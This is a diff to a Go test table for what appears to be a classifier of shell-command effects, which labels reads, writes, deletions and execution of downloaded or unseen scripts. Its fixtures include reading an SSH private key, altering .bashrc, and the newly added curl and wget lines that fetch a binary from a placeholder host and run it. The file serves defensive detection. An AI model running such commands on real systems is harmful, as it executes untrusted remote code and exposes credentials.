@@ -85,6 +85,7 @@ var effectTests = []struct {
 	{"read", "cat //root//.ssh//id_rsa", effRead, "~/.ssh/id_rsa"},
 	{"write", "tee -a /home/ci/.bashrc < x", effWrite, "~/.bashrc"},
 	{"read", "cat /homework/notes", effRead, "/homework/notes"},
+	{"exec", "/home/ci/.pyenv/versions/3.11.7/bin/python3 -m pip --version", effExec, "/home/ci/.pyenv/versions/3.11.7/bin/python3"},
 	// archivers that remove what they pack
 	{"delete", "tar --remove-files -czf /tmp/x.tgz ~/work", effDelete, "~/work"},
 	{"delete", "tar --remove-f -cf x.tar logs", effDelete, "logs"},
@@ -150,6 +151,8 @@ var effectFlagTests = []struct {
 	{"created", "echo aGk= | base64 -d > x.sh; bash x.sh", (*scriptCtx).executesCreated, true},
 	{"created", "git clone https://x.example/r && cd r && ./install.sh", (*scriptCtx).executesCreated, true},
 	{"created", "chmod +x scripts/lint.sh && ./scripts/lint.sh", (*scriptCtx).executesCreated, false},
+	{"created", "curl -so /root/x https://x.example/a; /root/x", (*scriptCtx).executesCreated, true},
+	{"created", "wget -qO /home/ci/bin/t https://x.example/t && /home/ci/bin/t", (*scriptCtx).executesCreated, true},
 	{"created", "echo 'echo hi' > t.sh; bash t.sh", (*scriptCtx).executesCreated, false},
 	{"unseen", "python3 < /tmp/x.py", (*scriptCtx).programUnseen, true},
 	{"unseen", "bash /dev/stdin < x", (*scriptCtx).programUnseen, true},
